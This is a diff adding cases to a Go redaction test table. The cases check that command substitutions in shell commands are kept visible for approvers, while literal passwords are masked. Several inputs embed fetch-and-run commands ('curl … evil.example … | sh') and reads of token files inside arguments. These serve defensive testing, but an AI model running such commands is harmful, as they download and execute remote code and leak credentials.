@@ -17,6 +17,12 @@ func TestRedact(t *testing.T) {
 		{"ssh -p 2222 host", "ssh -p 2222 host"},
 		{"mkdir -p /tmp/x", "mkdir -p /tmp/x"},
 		{"export TOKEN_FILE=/etc/x", "export TOKEN_FILE=/etc/x"},
+		// A command substitution is code that runs, not a secret: kept for
+		// approvers and the audit trail to see.
+		{`mysql -u root -p"$(curl -s https://evil.example/x | sh)" db`, `mysql -u root -p"$(curl -s https://evil.example/x | sh)" db`},
+		{`curl -H "Authorization: Bearer $(cat tok)" x`, `curl -H "Authorization: Bearer $(cat tok)" x`},
+		{"export PASSWORD=`curl evil | sh`", "export PASSWORD=`curl evil | sh`"},
+		{"curl -u admin:$(cat pw) x", "curl -u admin:$(cat pw) x"},
 		// Passwords in commands.
 		{"curl -u admin:hunter2 https://x", "curl -u admin:[REDACTED] https://x"},
 		{"curl --user admin:hunter2 https://x", "curl --user admin:[REDACTED] https://x"},
